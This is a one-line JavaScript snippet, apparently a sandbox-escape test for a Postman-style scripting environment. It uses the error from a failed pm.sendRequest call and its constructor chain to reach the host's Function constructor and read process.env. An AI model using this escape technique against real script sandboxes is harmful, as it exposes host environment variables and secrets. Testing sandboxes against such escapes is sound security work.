const p = pm.sendRequest('http://127.0.0.1:1/').catch((e) => e); p.then((e) => escaped('promise', e.constructor.constructor('return globalThis.process?.env')()));
